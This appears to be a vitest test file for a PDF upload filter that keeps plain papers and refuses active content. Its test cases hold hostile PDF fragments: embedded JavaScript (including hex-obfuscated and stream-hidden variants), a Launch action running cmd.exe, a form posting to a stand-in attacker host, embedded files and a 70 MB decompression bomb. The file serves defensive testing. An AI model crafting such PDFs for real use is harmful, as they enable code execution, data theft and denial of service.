// Uploaded papers: PDFs that could do more than show a page are refused.
import { deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';
import { expect, test } from 'vitest';
import { encodePaper } from './keep-file.ts';

function paper(): Promise<Buffer> {
  const document = new PDFDocument();
  const parts: Buffer[] = [];
  document.on('data', (part: Buffer) => parts.push(part));
  document.text('Deed of the bakery in Adama. It says JavaScript and Launch, and does neither.').end();
  return new Promise((resolve) => document.on('end', () => resolve(Buffer.concat(parts))));
}

const pdf = (...objects: (string | Buffer)[]) =>
  Buffer.concat([Buffer.from('%PDF-1.7\n'), ...objects.map((one) => Buffer.from(one)), Buffer.from('\n%%EOF\n')]);
const packed = (text: string) =>
  Buffer.concat([
    Buffer.from('2 0 obj <</Type /ObjStm /Filter /FlateDecode>>\nstream\n'),
    deflateSync(text),
    Buffer.from('\nendstream endobj'),
  ]);

test('a paper without active content is kept unchanged', async () => {
  const bytes = await paper();
  expect(await encodePaper(bytes)).toMatchObject({ bytes, contentType: 'application/pdf' });
  const objects = pdf(packed('<</Type /Catalog /Pages 1 0 R>>'));
  expect(await encodePaper(objects)).toMatchObject({ contentType: 'application/pdf' });
});

test.each([
  ['a script', pdf('<</OpenAction <</S /JavaScript /JS (app.alert(1))>>>>')],
  ['a script whose name is written in hex codes', pdf('<</S /J#61vaScript /JS (app.alert(1))>>')],
  ['a script in a packed object', pdf(packed('<</S /JavaScript /JS (app.alert(1))>>'))],
  ['a script between fake stream markers', pdf('% stream\n', '<</S /JavaScript>>', '\n% endstream')],
  ['a program', pdf('<</S /Launch /F (cmd.exe)>>')],
  ['another file', pdf('<</Names <</EmbeddedFiles 3 0 R>>>>')],
  ['a form that sends', pdf('<</S /SubmitForm /F (https://evil.example)>>')],
  ['encryption', pdf('<</Encrypt 4 0 R>>')],
  ['objects in a rare encoding', pdf('<</Type /ObjStm /Filter /ASCIIHexDecode>>\nstream\n2f4a\nendstream')],
  ['a stream that unpacks to 70 MB', pdf(packed('0'.repeat(70_000_000)))],
])('a paper with %s is refused', async (_, bytes) => {
  expect(await encodePaper(bytes)).toBeNull();
});
